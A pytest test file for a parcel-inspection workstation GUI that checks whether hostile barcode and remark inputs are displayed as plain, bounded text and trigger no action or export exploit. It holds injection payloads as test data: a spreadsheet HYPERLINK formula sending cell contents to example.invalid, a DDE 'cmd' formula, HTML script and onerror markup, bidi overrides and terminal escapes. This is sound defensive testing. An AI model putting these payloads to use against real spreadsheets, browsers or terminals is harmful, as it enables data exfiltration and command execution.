"""Labels, typed numbers and remarks that mean harm, through the whole window: shown as plain text and
bounded, nothing decided, and nothing of them obeyed in what leaves the bench.
"""

import base64
import re
import unicodedata

import msgspec
import pytest
from msgspec.structs import replace
from PySide6.QtCore import Qt
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication, QLabel, QTextEdit, QWidget

from tests.journeys.officer import CTRL, NONE
from tests.journeys.parcels import goods, parcel
from workstation.barcode.reads import BarcodeRead, typed_read
from workstation.cli import main
from workstation.domain.consignment import Identifier
from workstation.domain.event import LABEL_READS, ReadMeaning
from workstation.ui.parts.text import TEXT_LIMIT

pytestmark = pytest.mark.journey

FIRST = "RB123456785GB"
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
MARKUP = "<b>RB123456785GB</b><img src=x onerror=alert(1)><script>"
HOSTILE = {
    "formula": FORMULA,
    "markup": MARKUP,
    "turned": "\u202eBG587654321BR\u2066\u200f",
    "controls": "\x00\x1b]0;x\x07\x1b[31mRB123456785G\x08",
    "mnemonic": "&Release &&Hold\t%1 %n {number} {0}",
    "long": "A1" * 5_000,
    "deep gs1": "]d2" + "21A\x1d" * 2_500,
    "deep message": "[)>\x1e05\x1d" + "10ABC\x1d" * 1_600,
    "link": "https://id.gs1.org/" + "01/09521234543213/" * 500,
    "stacked": "a" + "\u0301" * 5_000,
    "emoji": "\U0001f4e6" * 5_000,
    "empty": "\x1d\x1d\x1d\x1d\x1d\x1d\x1d\x1d",
}
TURNS = set("\u202a\u202b\u202c\u202d\u202e\u200e\u200f")
"""Marks that turn text around; isolates (U+2066 to U+2069) are the program's own, around numbers."""


@pytest.fixture
def day(seat, centre):
    centre.put(parcel("C-1", FIRST))
    officer = seat()
    officer.waits_for_the_parcels(1)
    return officer


def texts(officer):
    """Everything that is written on the screens or read out, with whose it is."""
    for top in QApplication.topLevelWidgets():
        for widget in (top, *top.findChildren(QWidget)):
            yield widget, widget.toolTip()
            yield widget, widget.accessibleName()
            yield widget, widget.accessibleDescription()
            if isinstance(widget, QLabel):
                yield widget, widget.text()
    for words in (officer.says(), officer.notice(), officer.declaration(), *officer.deliveries()):
        yield officer.window, words


def is_harmless(officer):
    """All that is shown is plain, bounded, and hides or turns nothing."""
    for widget, text in texts(officer):
        if isinstance(widget, QLabel):
            assert widget.textFormat() is Qt.TextFormat.PlainText, widget
        assert len(text) <= 2 * TEXT_LIMIT, widget
        assert not TURNS & set(text), (widget, ascii(text))
        hidden = {each for each in text if unicodedata.category(each) in ("Cc", "Cs", "Co", "Cn")} - {"\n"}
        assert not hidden, (widget, ascii(text))
    rich = [each for each in officer.window.findChildren(QTextEdit) if each.acceptRichText()]
    assert rich == []
    return True


def takes(officer, text, source="wedge"):
    """A read of this text by any of the ways in."""
    read = typed_read(text, 10**7) if source == "typed" else BarcodeRead(text=text, source=source)
    officer.screens.reading.route.take(read)
    officer.waits_until(officer.is_at_rest)


@pytest.mark.parametrize("source", ["wedge", "serial", "typed"])
def test_a_label_that_means_harm_is_told_as_plain_text_and_decides_nothing(day, source):
    for name, text in HOSTILE.items():
        day.opens(FIRST)
        day.fills("hold", reason="H01")
        before = len(day.answers)
        takes(day, text, source)
        assert len(day.answers) > before, name
        assert is_harmless(day), name
        assert (day.recorded(), day.dialogs()) == (0, []), name


WITHIN = {
    "tab": ("\t", Qt.Key.Key_Tab, NONE),
    "enter": ("\r", Qt.Key.Key_Return, NONE),
    "line feed": ("\n", Qt.Key.Key_J, CTRL),
    "escape": ("\x1b", Qt.Key.Key_Escape, NONE),
    "backspace": ("\b", Qt.Key.Key_Backspace, NONE),
    "delete": ("\x7f", Qt.Key.Key_Delete, NONE),
    "down": ("", Qt.Key.Key_Down, NONE),
    "release": ("", Qt.Key.Key_F2, NONE),
    "hold": ("", Qt.Key.Key_F3, NONE),
    "separator": ("", Qt.Key.Key_F8, NONE),
    "lift": ("\x0c", Qt.Key.Key_L, CTRL),
    "annul": ("\x1a", Qt.Key.Key_Z, CTRL),
    "paste": ("\x16", Qt.Key.Key_V, CTRL),
    "cut": ("\x18", Qt.Key.Key_X, CTRL),
    "all": ("\x01", Qt.Key.Key_A, CTRL),
    "menu": ("", Qt.Key.Key_Menu, NONE),
    "alt": ("r", Qt.Key.Key_R, Qt.KeyboardModifier.AltModifier),
}
"""Keys that a label's control characters may come as, in the middle of its own."""


@pytest.mark.parametrize("text", ["=A1+cmd|'/C'!A0", "<b>12345678</b>", "RB123456785GX"])
def test_nor_does_one_with_other_keys_within_and_the_remark_stays_as_it_was(day, text):
    reader = day.screens.reader
    for name, key in WITHIN.items():
        day.opens(FIRST)
        if not day.form.kind:
            day.fills("hold", reason="H01")
        day.form.remark.setPlainText("no invoice")
        day.form.remark.setFocus()
        before = len(day.answers)
        day.hands.now_ms += 2_000
        day.hands.reader(text[:8], enter=False)
        day.hands.stroke(*key[:2], gap_ms=3, modifiers=key[2])
        day.hands.reader(text[8:])
        day.waits_until(lambda: reader._wedge.hold_ms is None and not reader.holds_act)
        assert len(day.answers) > before, name
        assert (day.recorded(), day.dialogs(), QApplication.activePopupWidget()) == (0, [], None), name
        day.opens(FIRST)
        assert day.form.remark.toPlainText() == "no invoice", name
    assert is_harmless(day)


@pytest.mark.parametrize("place", [0, 1, 5, 12, 13])
@pytest.mark.parametrize(
    "key", [("\r", Qt.Key.Key_Return, CTRL), ("", Qt.Key.Key_F2, NONE)], ids=["confirm", "F2"]
)
def test_nor_does_one_that_holds_the_keys_that_decide(day, centre, place, key):
    """The form of the hold lacks nothing: a person's Ctrl+Enter would record it."""
    reader, text = day.screens.reader, "LX473124829NL"
    day.opens(FIRST)
    day.fills("hold", reason="H01")
    assert not day.form.obstacles()
    day.hands.now_ms += 2_000
    day.hands.reader(text[:place], enter=False)
    day.hands.stroke(*key[:2], gap_ms=3, modifiers=key[2])
    day.hands.reader(text[place:])
    day.waits_until(lambda: reader._wedge.hold_ms is None and not reader.holds_act)
    assert (day.recorded(), day.dialogs()) == (0, [])


def test_a_parcel_that_nobody_declared_keeps_such_labels_as_they_are_and_shows_them_plainly(day, centre):
    first, *others = (FORMULA, MARKUP, *HOSTILE.values())
    takes(day, first)
    day.waits_until(lambda: "Ctrl+U" in day.says())
    screen = day.screens.floor.undeclared.screen
    QTest.keyClick(day.window.windowHandle(), Qt.Key.Key_U, CTRL)
    day.waits_until(screen.isVisible)
    for text in others:
        takes(day, text)
    assert is_harmless(day)
    day.presses("confirm")
    day.waits_until(lambda: day.open_id() and day.is_at_rest())
    assert is_harmless(day)
    day.waits_until(lambda: any(each.event.kind == "provisional" for each in centre.everything()))
    (said,) = [each for each in centre.everything() if each.event.kind == "provisional"]
    kept = [
        each.text
        for particular in said.particulars
        if particular.kind == LABEL_READS
        for each in msgspec.json.decode(particular.text, type=tuple[ReadMeaning, ...])
    ]
    assert kept[:2] == [FORMULA, MARKUP]


def test_what_leaves_the_bench_holds_such_texts_as_data_alone(day, centre, tmp_path):
    """A number of a consignment, a remark and a description that mean harm: the ledger as a file has each
    field by itself and each text in base64, and the sheet of the shift draws them.
    """
    evil = Identifier(value=FORMULA, kind="other", belongs_to="parcel", of="P-1")
    shirts, vapes = goods()
    described = replace(shirts, description=MARKUP)
    centre.put(parcel("C-2", "unused", identifiers=(evil,), goods_items=(described, vapes)))
    day.waits_for_the_parcels(2)
    takes(day, FORMULA)
    assert day.open_id() == "C-2"
    assert is_harmless(day)
    day.fills("hold", reason="H01")
    remark = "\n".join(text[:300] for text in HOSTILE.values())
    day.form.remark.setPlainText(remark)
    day.confirms()
    assert is_harmless(day)
    day.presses("shift")
    shift = day.screens.records.shift
    day.waits_until(lambda: shift.model.rowCount() == 1)
    shift.place.setText(str(tmp_path / "sheet.pdf"))
    day.types("p")
    day.waits_until(lambda: (tmp_path / "sheet.pdf").exists() and day.is_at_rest())
    sheet = (tmp_path / "sheet.pdf").read_bytes()
    assert not re.search(rb"/(JavaScript|JS|URI|Launch|OpenAction|AA)\b", sheet)
    assert len(sheet) < 500_000

    out, home = tmp_path / "ledger.txt", str(tmp_path / "home")
    asked = ["ledger", "export", "--profile", "training", "--home", home, "--out", str(out), "--with-texts"]
    assert main(asked) == 0
    written = out.read_bytes()
    assert set(written) <= {*range(0x20, 0x7F), *b"\t\n"}
    assert FORMULA.encode() not in written
    lines = [line.split(b"\t") for line in written.splitlines()]
    texts_in_it = [base64.b64decode(line[5], validate=True) for line in lines if line[0] == b"text"]
    assert FORMULA.encode() in texts_in_it
    assert day.form.kind == ""
